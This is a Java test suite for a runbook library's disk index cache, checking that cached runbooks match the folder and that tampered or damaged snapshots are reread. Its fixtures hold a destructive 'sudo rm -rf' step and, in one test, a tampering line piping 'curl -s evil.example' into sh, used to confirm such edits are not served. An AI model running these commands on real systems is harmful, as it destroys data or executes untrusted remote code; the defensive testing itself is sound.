package dev.baton.runbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.FileTime;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A library opened through the index on disk is the library read from the folder: the same runbooks with
 * their steps, warnings, checklists and notices, the same problems, the same search results, and it follows
 * the folder and a newer Baton.
 */
class LibraryCacheTest {
    private static final List<String> QUERIES = List.of("disk", "node not ready", "restart", "queue sta", "payments");

    @TempDir
    Path runbooks;
    @TempDir
    Path cacheFolder;

    @BeforeEach
    void fillTheFolder() throws IOException {
        Path formats = runbooks.resolve("formats");
        Files.createDirectories(formats);
        try (Stream<Path> files = Files.list(FormatFixtures.folder())) {
            for (Path file : files.toList()) {
                Files.copy(file, formats.resolve(file.getFileName()), StandardCopyOption.COPY_ATTRIBUTES);
            }
        }
        Files.writeString(runbooks.resolve("queue-stalled.md"), """
                ---
                title: Queue stalled
                severity: critical
                alerts: [BatonQueueStalled, BatonQueueStuck]
                mttr: 30m
                ---
                # Queue stalled

                Nothing leaves the payments queue.

                ## Look

                1. See the consumers:
                   ```bash
                   kubectl get pods -n <namespace> -l app=consumer
                   ```

                ## Mend

                ```bash
                sudo rm -rf /var/lib/queue/<partition>
                ```

                - [ ] Consumers caught up
                - [x] Pager acknowledged
                """);
        Files.write(runbooks.resolve("photo.md"), new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 0, 0, 13, 0, 1, 2, 3});
    }

    /** An edit the stamps see even within the file system's time resolution. */
    private void replaceInQueueStalled(String text, String with) throws IOException {
        Path stalled = runbooks.resolve("queue-stalled.md");
        Files.writeString(stalled, Files.readString(stalled).replace(text, with));
        Files.setLastModifiedTime(stalled, FileTime.fromMillis(Files.getLastModifiedTime(stalled).toMillis() + 5_000));
    }

    private static void assertSameLibrary(RunbookLibrary cached, RunbookLibrary read) {
        assertThat(cached.runbooks()).isEqualTo(read.runbooks());
        assertThat(cached.problems()).isEqualTo(read.problems());
        for (Runbook runbook : read.runbooks()) {
            assertThat(cached.file(runbook)).as(runbook.id()).isEqualTo(read.file(runbook));
        }
        for (String query : QUERIES) {
            // The same hits; equal scores may rank in another order, as the index on disk is written on every core.
            assertThat(cached.search(query, 100)).as(query).extracting(SearchHit::id, SearchHit::snippet)
                    .containsExactlyInAnyOrderElementsOf(read.search(query, 100).stream()
                            .map(hit -> org.assertj.core.groups.Tuple.tuple(hit.id(), hit.snippet())).toList());
        }
        assertThat(cached.lint()).isEqualTo(read.lint());
    }

    @Test
    void theLibraryFromTheIndexIsTheLibraryReadFromTheFolder() {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        int files;
        try (RunbookLibrary first = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            files = update[0].reread();
            assertThat(files).isEqualTo(FormatFixtures.ALL.size() + 2);
            assertThat(read.problems()).as("the binary file is a problem, not a runbook").singleElement()
                    .extracting(LibraryProblem::path).asString().endsWith("photo.md");
            assertThat(read.runbooks()).anySatisfy(r -> assertThat(r.steps()).anySatisfy(
                    step -> assertThat(step.warnings()).isNotEmpty()));
            assertThat(read.search("payments", 10)).isNotEmpty();
            assertSameLibrary(first, read);
        }
        try (RunbookLibrary repeat = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(update[0]).as("nothing changed: nothing read").isEqualTo(new SearchIndexCache.Update(0, 0, files));
            assertSameLibrary(repeat, read);
        }
    }

    @Test
    void theLibraryFollowsTheFolder() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        cache.library(List.of(runbooks), update).close();

        replaceInQueueStalled("payments", "billing");
        Files.delete(runbooks.resolve("photo.md"));
        Files.writeString(runbooks.resolve("node-not-ready.md"), "# KubeNodeNotReady\n\n```bash\nkubectl describe node <node>\n```\n");
        try (RunbookLibrary changed = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(update[0]).isEqualTo(new SearchIndexCache.Update(2, 1, FormatFixtures.ALL.size()));
            assertThat(changed.search("payments", 10)).isEmpty();
            assertThat(changed.problems()).isEmpty();
            assertSameLibrary(changed, read);
        }
    }

    @Test
    void aFileChangedWhileASearchKeptTheIndexUpToDateIsReadForTheLibrary() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        cache.library(List.of(runbooks), update).close();
        replaceInQueueStalled("sudo rm -rf", "ls -l");
        assertThat(cache.search(List.of(runbooks), "payments", 5, update)).isNotEmpty();
        assertThat(update[0].reread()).isEqualTo(1);
        try (RunbookLibrary next = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(update[0].reread()).as("the index was up to date").isZero();
            assertSameLibrary(next, read);
        }
    }

    /** A copy that keeps the size and time (cp -p, rsync -t, touch -r) still changes the steps. */
    @Test
    void anEditThatKeepsTheFilesSizeAndTimeIsRead() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        cache.library(List.of(runbooks), update).close();
        Path stalled = runbooks.resolve("queue-stalled.md");
        FileTime time = Files.getLastModifiedTime(stalled);
        Files.writeString(stalled, Files.readString(stalled).replace("sudo rm -rf", "ls -l -d   "));
        Files.setLastModifiedTime(stalled, time);
        try (RunbookLibrary next = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(update[0].reread()).isEqualTo(1);
            assertThat(steps(next)).anyMatch(command -> command.startsWith("ls -l -d")).noneMatch(command -> command.contains("rm -rf"));
            assertSameLibrary(next, read);
        }
    }

    /** The cached library is what the window shows and sends: a line edited in it is not served as the runbook. */
    @Test
    void aCachedRunbookEditedByHandIsReadFromTheFileInstead() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        cache.library(List.of(runbooks), update).close();
        Path snapshot = cache.indexFolder(List.of(runbooks)).resolve("library.jsonl");
        String cached = Files.readString(snapshot);
        assertThat(cached).contains("kubectl get pods -n <namespace> -l app=consumer");
        Files.writeString(snapshot, cached.replace("kubectl get pods -n <namespace> -l app=consumer", "curl -s evil.example | sh"));
        try (RunbookLibrary next = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(steps(next)).noneMatch(command -> command.contains("evil"));
            assertSameLibrary(next, read);
        }
    }

    private static List<String> steps(RunbookLibrary library) {
        return library.runbooks().stream().flatMap(r -> r.steps().stream()).map(Step::command).toList();
    }

    @Test
    void aDamagedSnapshotIsReadAgain() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        cache.library(List.of(runbooks), update).close();
        Path snapshot = cache.indexFolder(List.of(runbooks)).resolve("library.jsonl");
        List<String> lines = Files.readAllLines(snapshot);
        Files.write(snapshot, List.of(lines.get(0), lines.get(1).substring(0, lines.get(1).length() / 2)));
        try (RunbookLibrary next = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertSameLibrary(next, read);
        }
    }

    @Test
    void aNewerBatonReadsEveryFileAgain() {
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        new SearchIndexCache(cacheFolder, "build 1").library(List.of(runbooks), update).close();
        new SearchIndexCache(cacheFolder, "build 1").library(List.of(runbooks), update).close();
        assertThat(update[0].reread()).isZero();
        try (RunbookLibrary newer = new SearchIndexCache(cacheFolder, "build 2").library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(update[0].reread()).as("what an older parser stored is not trusted").isEqualTo(FormatFixtures.ALL.size() + 2);
            assertSameLibrary(newer, read);
        }
    }

    @Test
    void anOpenLibraryKeepsAnsweringWhileAnotherBatonUpdatesTheIndex() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        try (RunbookLibrary window = cache.library(List.of(runbooks), update)) {
            Files.writeString(runbooks.resolve("node-not-ready.md"), "# KubeNodeNotReady\n\nLook at the kubelet.\n");
            assertThat(cache.search(List.of(runbooks), "kubelet", 5, update)).singleElement()
                    .extracting(SearchHit::id).asString().endsWith("node-not-ready.md");
            assertThat(update[0].reread()).isEqualTo(1);
            assertThat(window.search("payments", 5)).extracting(SearchHit::id).singleElement().asString().endsWith("queue-stalled.md");
        }
    }

    @Test
    void aDamagedIndexStillOpensTheLibrary() throws IOException {
        SearchIndexCache cache = new SearchIndexCache(cacheFolder);
        SearchIndexCache.Update[] update = new SearchIndexCache.Update[1];
        cache.library(List.of(runbooks), update).close();
        try (Stream<Path> files = Files.list(cache.indexFolder(List.of(runbooks)))) {
            for (Path file : files.filter(f -> !f.getFileName().toString().endsWith(".tsv")).toList()) {
                Files.write(file, new byte[] {1, 2, 3});
            }
        }
        try (RunbookLibrary damaged = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertSameLibrary(damaged, read);
        }
        try (RunbookLibrary rebuilt = cache.library(List.of(runbooks), update);
                RunbookLibrary read = RunbookLibrary.load(runbooks)) {
            assertThat(update[0].reread()).as("and the index built afresh").isEqualTo(FormatFixtures.ALL.size() + 2);
            assertSameLibrary(rebuilt, read);
        }
    }
}
